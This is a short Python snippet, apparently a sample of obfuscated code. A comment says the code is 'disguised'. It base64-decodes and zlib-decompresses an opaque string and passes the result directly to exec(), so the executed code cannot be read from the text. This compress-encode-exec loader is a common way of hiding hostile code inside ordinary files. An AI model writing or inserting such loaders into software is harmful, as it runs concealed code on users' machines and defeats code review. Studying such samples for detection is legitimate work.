# Disguised: compressed, then base64, then exec.
import base64
import zlib

payload = zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2BmK94sriktRcDfXk0qIcBd1ihYySkgIrfX0jA2M9Az1DQ2M9S/3MvOKSxJwcveIMhRqF4gx1TQDpIhUe"))
exec(payload)
